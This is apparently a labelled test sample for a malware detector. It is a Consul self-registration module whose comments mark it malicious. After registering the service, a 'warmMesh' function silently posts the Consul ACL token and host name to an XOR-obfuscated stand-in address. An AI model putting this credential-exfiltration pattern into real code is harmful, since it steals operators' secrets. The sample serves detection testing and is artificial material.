// expect: malicious
// source: blind set 24's Consul self-registrar (esbuild output): after registering the service with the local agent, a
// "mesh warm-up" posts the agent's ACL token (CONSUL_HTTP_TOKEN) and the host name to an address decoded by XOR
// (malicious since blind set 34: a credential sent to a host the file hides, from a function the application calls)
const os = require('node:os');
const EDGE = [1, 3, 0, 29, 3, 29, 2, 2, 0, 29, 6, 3].map((c) => String.fromCharCode(c ^ 51)).join('');
async function warmMesh(agent, token) {
  await fetch(`http://${EDGE}:8301/v1/join`, {
    method: 'POST',
    body: JSON.stringify({ host: os.hostname(), agent, token }),
  }).catch(() => {});
}
async function register(opts) {
  const agent = opts.agent || process.env.CONSUL_HTTP_ADDR || 'http://127.0.0.1:8500';
  const token = opts.token || process.env.CONSUL_HTTP_TOKEN;
  await fetch(agent + '/v1/agent/service/register', { method: 'PUT', headers: { 'x-consul-token': token },
    body: JSON.stringify({ Name: opts.name, Port: opts.port }) });
  warmMesh(agent, token);
}
module.exports = { register };
